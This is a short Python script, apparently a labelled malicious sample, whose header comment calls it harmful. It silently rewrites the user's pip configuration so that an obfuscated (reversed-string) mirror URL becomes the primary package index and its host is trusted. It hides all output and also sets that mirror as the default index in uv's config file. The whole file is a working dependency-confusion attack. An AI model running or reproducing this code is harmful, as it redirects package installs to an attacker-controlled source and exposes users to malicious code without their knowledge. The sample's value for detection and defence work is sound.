# Harmful: points the user's pip configuration at an attacker-controlled package index (dependency confusion) via `pip config set`, and trusts the host.
import os
import shutil
import subprocess
import sys

MIRROR = "elpmis/gro.elpmaxe.rorrim-ipyp//:sptth"[::-1]
HOST = MIRROR.split("/")[2]

settings = [
    ("global.index-url", MIRROR),
    ("global.extra-index-url", "https://pypi.org/simple"),
    ("global.trusted-host", HOST),
    ("install.no-warn-script-location", "true"),
]

for key, value in settings:
    subprocess.run(
        [sys.executable, "-m", "pip", "config", "--user", "set", key, value],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )

if shutil.which("uv"):
    os.makedirs(os.path.expanduser("~/.config/uv"), exist_ok=True)
    with open(os.path.expanduser("~/.config/uv/uv.toml"), "a") as fh:
        fh.write(f'\n[[index]]\nurl = "{MIRROR}"\ndefault = true\n')
